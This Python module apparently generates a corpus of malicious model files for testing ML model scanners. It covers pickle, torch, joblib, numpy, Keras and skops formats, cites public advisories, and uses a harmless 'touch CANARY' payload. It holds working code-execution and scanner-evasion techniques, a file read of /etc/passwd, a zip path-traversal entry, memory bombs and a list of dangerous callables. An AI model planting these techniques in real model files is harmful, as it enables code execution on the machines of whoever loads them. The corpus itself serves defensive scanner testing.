"""Ways to smuggle code into a model file, as public advisories describe them: each with a harmless payload and the canary's path.

Sources: picklescan's advisories GHSA-7q5r-7gvp-wc82, GHSA-655q-fx9r-782v, GHSA-93mv-x874-956g, GHSA-w8jq-xcqf-f792, GHSA-769v-p64c-89pr,
GHSA-v7x6-rv5q-mhwc, GHSA-jgw4-cr84-mqxg, GHSA-86cj-95qr-2p4f (2025); protectai/modelscan issue 338; CVE-2025-1550 (Keras),
CVE-2023-47248 (pyarrow), CVE-2024-34359 (templates in GGUF), CVE-2025-32434 (torch); Trail of Bits, "Never a dill moment" (2021);
JFrog and ReversingLabs on nullifAI (2025); Checkmarx, "Free hugs" (2025).
"""

import base64
import bz2
import gzip
import io
import lzma
import pickle
import struct
import zipfile
import zlib
from collections.abc import Iterator

PROTO = b"\x80\x04"
HDF5 = b"\x89HDF\r\n\x1a\n"


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def named(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(module: str, name: str, *args: bytes) -> bytes:
    return PROTO + named(module, name) + b"(" + b"".join(args) + b"tR."


def zipped(files: dict[str, bytes], comment: bytes = b"", method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as target:
        for name, data in files.items():
            target.writestr(name, data)
        target.comment = comment
    return out.getvalue()


def torch_zip(data: bytes, **more: bytes) -> bytes:
    return zipped({"m/data.pkl": data, "m/version": b"3\n", **{f"m/{k}": v for k, v in more.items()}})


def safetensors(values: int = 400) -> bytes:
    header = b'{"a":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (values, values)
    return len(header).to_bytes(8, "little") + header + bytes(values)


def npy(values: int = 16) -> bytes:
    head = b"{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % values
    head = head.ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + bytes(values)


FUNCTIONS = (
    "os.system posix.system nt.system subprocess.Popen subprocess.check_output subprocess.getoutput pty.spawn runpy.run_path "
    "importlib.import_module builtins.exec builtins.eval builtins.compile builtins.__import__ builtins.getattr builtins.open "
    "builtins.globals code.InteractiveInterpreter.runcode timeit.timeit cProfile.run profile.run pdb.run bdb.Bdb.run trace.Trace.run "
    "doctest.debug_script pydoc.pipepager webbrowser.open shutil.copyfile shutil.rmtree socket.create_connection urllib.request.urlopen "
    "http.client.HTTPSConnection ftplib.FTP smtplib.SMTP ssl.get_server_certificate asyncio.unix_events._UnixSubprocessTransport._start "
    "multiprocessing.util.spawnv_passfds ctypes.CDLL imp.load_source zipimport.zipimporter pkgutil.resolve_name marshal.loads types.FunctionType "
    "types.CodeType pickle.loads _pickle.loads dill.loads cloudpickle.loads joblib.load shelve.open sqlite3.connect lib2to3.pgen2.pgen.ParserGenerator "
    "lib2to3.pgen2.grammar.Grammar.loads idlelib.pyshell.ModifiedInterpreter.runcode idlelib.autocomplete.AutoComplete.fetch_completions "
    "idlelib.calltip.get_entity idlelib.debugobj.ObjectTreeItem.SetText distutils.file_util.write_file numpy.load numpy.f2py.crackfortran.getlincoef "
    "numpy.f2py.crackfortran.param_eval numpy.testing._private.utils.runstring torch.load torch.hub.load torch.utils.collect_env.run "
    "torch.utils.bottleneck.__main__.run_cprofile torch.utils._config_module.load_config torch.jit.unsupported_tensor_ops.execWrapper "
    "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression torch._dynamo.guards.GuardBuilder.get torch.distributed.rpc.api.rpc_sync "
    "pandas.eval pandas.read_pickle pandas.io.pickle.read_pickle operator.methodcaller operator.attrgetter functools.reduce pip.main "
    "ensurepip._run_pip venv.create uuid._get_command_stdout platform.popen _aix_support._read_cmd_output _osx_support._read_output "
    "test.support.script_helper.assert_python_ok yaml.unsafe_load mlflow.pyfunc.load_model"
).split()


def functions(canary: str) -> Iterator[tuple[str, bytes]]:
    """One pickle for each function that a file may call to reach further."""
    command = text(f"touch {canary}")
    for full in FUNCTIONS:
        module, _, name = full.rpartition(".")
        yield f"calls {full}", call(module, name, command)


def ways(canary: str) -> Iterator[tuple[str, str, bytes]]:
    """Name of the technique, name of the file, content; the payload always ends in ``os.system('touch CANARY')``."""
    command = text(f"touch {canary}")
    evil = call("os", "system", command)
    body = evil[2:]
    old = f"cos\nsystem\n(S'touch {canary}'\ntR.".encode()
    plain = pickle.dumps({"weights": [1, 2, 3]}, 4)
    yield "text reduce", "m.pkl", old
    yield "inst", "m.pkl", f"(S'touch {canary}'\nios\nsystem\n.".encode()
    yield "obj", "m.pkl", b"(cos\nsystem\n" + command + b"o."
    yield "newobj", "m.pkl", PROTO + named("os", "system") + command + b"\x85\x81."
    yield "newobj with keywords", "m.pkl", PROTO + named("os", "system") + command + b"\x85}\x92."
    yield (
        "name through the memo",
        "m.pkl",
        PROTO + text("system") + b"\x94" + text("os") + b"\x940" + b"0h\x01h\x00\x93" + command + b"\x85R.",
    )
    yield "dotted name", "m.pkl", PROTO + named("torch", "serialization.os.system") + command + b"\x85R."
    yield "broken after the call", "m.pkl", evil[:-1] + b"\xff\xff\xff"
    yield "cut before its end", "m.pkl", evil[:-1]
    yield "second pickle in a row", "m.pkl", plain + evil
    yield "hundredth pickle in a row", "m.pkl", plain * 99 + evil
    yield "behind a state that is set", "m.pkl", PROTO + b"}" + named("os", "system") + command + b"\x85R" + b"b."
    yield "under a data suffix", "t.csv", old
    yield "under another suffix", "m.safetensors", evil
    yield "padding in front", "m.pkl", PROTO + b"N0" * 30_000 + body
    yield "pickle in a pickle", "m.pkl", call("_pickle", "loads", b"C" + bytes([len(old)]) + old)
    yield "pickle in base64 and a decoder", "m.pkl", call("builtins", "exec", text(base64.b64encode(old).decode()))
    yield (
        "reducer of a known class",
        "m.joblib",
        PROTO + named("sklearn.svm._classes", "SVC") + b")\x81}" + text("kernel") + body[:-1] + b"sb.",
    )
    yield (
        "transformer over a command",
        "m.joblib",
        (
            PROTO
            + named("sklearn.preprocessing._function_transformer", "FunctionTransformer")
            + b")\x81}"
            + text("func")
            + named("os", "system")
            + b"sb."
        ),
    )
    yield "constructor of a generator", "m.pkl", call("numpy.random._pickle", "__generator_ctor", command, named("os", "system"))
    yield "factory of a defaultdict", "m.pkl", call("collections", "defaultdict", named("os", "system"))
    yield "partial", "m.pkl", call("functools", "partial", named("os", "system"), command)
    yield (
        "reconstructor with a foreign base",
        "m.pkl",
        call("copyreg", "_reconstructor", named("os", "system"), named("builtins", "object"), b"N"),
    )
    yield (
        "distribution whose state is executed",
        "m.pkl",
        (PROTO + named("scipy.stats._continuous_distns", "norm_gen") + b")\x81}" + text("_parse_arg_template") + command + b"sb."),
    )
    yield "old wrapper that reads a file beside", "m.joblib", call("joblib.numpy_pickle", "NDArrayWrapper", text("/etc/passwd"), b"N")
    yield "array of objects behind a wrapper", "m.joblib", _wrapped(old)
    yield "torch zip", "m.pt", torch_zip(evil)
    yield "torch zip, second pickle", "m.pt", torch_zip(plain, **{"data/0": evil, "more.pkl": evil})
    yield "torch zip, entry twice", "m.pt", torch_zip(plain) + torch_zip(evil)
    yield "torch zip, wrong checksum", "m.pt", _corrupted(torch_zip(evil))
    yield "torch zip, flag of encryption", "m.pt", _flagged(torch_zip(evil))
    yield "torch zip in 7z clothes", "m.pt", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24) + old
    yield "zip behind safetensors, with a comment", "m.safetensors", safetensors() + zipped({"data.pkl": evil}, b"c" * 5000)
    yield "zip behind an array", "m.npy", npy() + zipped({"m/data.pkl": evil}, b"c")
    yield "zip behind a table", "t.csv", b"a,b\n1,2\n3,4\n" + zipped({"schema.json": b"{}", "x.pkl": evil}, b"hello")
    yield "zip behind a pickle", "m.pkl", plain + zipped({"m/data.pkl": evil})
    yield "HDF5 behind a table", "t.csv", b"a,b\n1,2\n3,4\n".ljust(512, b"\n") + HDF5 + b'{"class_name": "Lambda"}' + bytes(99)
    yield "HDF5 behind safetensors", "m.safetensors", safetensors(900)[:512] + HDF5 + bytes(460)
    yield "array of objects", "m.npy", npy().replace(b"'|u1'", b"'|O' ", 1)[:128] + evil
    yield "array of objects in npz", "m.npz", zipped({"x.npy": npy().replace(b"'|u1'", b"'|O' ", 1)[:128] + evil})
    for name, packed in (("gzip", gzip.compress), ("zlib", zlib.compress), ("bzip2", bz2.compress), ("xz", lzma.compress)):
        yield f"packed by {name}", "m.joblib", packed(evil)
    yield (
        "Keras Lambda",
        "m.keras",
        zipped(
            {
                "config.json": b'{"class_name":"Sequential","config":{"layers":[{"class_name":"Lambda","config":{}}]}}',
                "metadata.json": b"{}",
            }
        ),
    )
    yield (
        "Keras imports by name",
        "m.keras",
        zipped({"config.json": b'{"module":"os","class_name":"system","config":{"command":"x"}}', "metadata.json": b"{}"}),
    )
    yield (
        "skops with an unknown type",
        "m.skops",
        zipped({"schema.json": b'{"__class__":"system","__module__":"os","__loader__":"FunctionNode","content":{},"protocol":2}'}),
    )
    yield "path that leaves the folder", "m.zip", zipped({"../../evil.py": b"x"})
    yield "program named as a table", "t.csv", b"#!/bin/sh\ntouch " + canary.encode() + b"\n"
    yield "table named as a program", "conftest.py", b"import os,sys\nos.sep,sys\n"
    yield "memory out of nothing", "m.pkl", call("builtins", "bytearray", b"\x8a\x05" + (3 << 30).to_bytes(5, "little"))
    yield "a billion laughs", "m.pkl", PROTO + b")" + b"\x942\x86" * 40 + b"."
    yield "tensor over foreign memory", "m.pt", torch_zip(_tensor(1 << 20), **{"data/0": bytes(16)})
    pipeline, ranged = (
        named("sklearn.pipeline", "Pipeline") + b")\x81",
        named("builtins", "range") + b"J" + struct.pack("<i", 90_000) + b"\x85R",
    )
    yield (
        "setstate put on an object",
        "m.pkl",
        PROTO + pipeline + b"}" + text("__setstate__") + named("builtins", "type") + b"sb" + command + b"b.",
    )
    yield "class changed by a slot", "m.pkl", PROTO + pipeline + b"N}" + text("__class__") + named("builtins", "type") + b"s\x86b."
    yield "metric called", "m.pkl", call("sklearn.metrics._classification", "accuracy_score", b"N", b"N")
    yield "range unrolled", "m.pkl", PROTO + named("builtins", "bytearray") + ranged + b"\x85R."
    yield (
        "array of objects larger than the file",
        "m.pkl",
        (
            PROTO + named("numpy._core.multiarray", "_reconstruct") + named("numpy", "ndarray") + b"K\x00\x85C\x01b\x87R"
            b"(K\x01J\xff\xff\xff\x7f\x85" + named("numpy", "dtype") + text("O8") + b"\x85R\x89]tb."
        ),
    )
    yield "fraction that is written out", "m.pkl", call("fractions", "Fraction", text("1e999999999"))
    yield "items on a tensor", "m.pt", torch_zip(_tensor(4)[:-1] + b"K\x00K\x01s.", **{"data/0": bytes(16)})
    yield "attributes on a tensor", "m.pt", torch_zip(_tensor(4)[:-1] + b"}b.", **{"data/0": bytes(16)})
    yield "memo far beyond the file", "m.pkl", b"\x80\x02Nr\xff\xff\x3f\x00."
    yield (
        "lists that unfold",
        "m.pkl",
        b"\x80\x02]q\x00" + b"".join(b"](h%bh%beq%b" % (bytes([i]), bytes([i]), bytes([i + 1])) for i in range(60)) + b".",
    )
    yield "decompression bomb", "m.joblib", zlib.compress(bytes(64 << 20))


def _wrapped(pickled: bytes) -> bytes:
    """A joblib array of objects: the wrapper, then a pickle that joblib's reader hands to ``pickle.load``."""
    dtype = named("numpy", "dtype") + text("O8") + b"\x85R(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb"
    state = (
        b"}(" + text("subclass") + named("numpy", "ndarray") + text("shape") + b"K\x01\x85" + text("order") + text("C")
        + text("dtype") + dtype + text("allow_mmap") + b"\x89" + text("numpy_array_alignment_bytes") + b"Nu"
    )  # fmt: skip
    return b"\x80\x03" + named("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b" + pickled + b"."


def _tensor(rows: int) -> bytes:
    storage = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + b"K\x04tQ"
    size = b"J" + struct.pack("<i", rows) + b"\x85"
    return (
        b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n("
        + storage
        + b"K\x00"
        + size
        + b"K\x01\x85"
        + b"\x89"
        + b"ccollections\nOrderedDict\n)Rt"
        + b"R."
    )


def _corrupted(data: bytes) -> bytes:
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"PK\x01\x02"))
    return data[: at + 16] + b"\0\0\0\0" + data[at + 20 :]


def _flagged(data: bytes) -> bytes:
    at = data.find(b"PK\x01\x02")
    return data[: at + 8] + b"\x01\0" + data[at + 10 :]
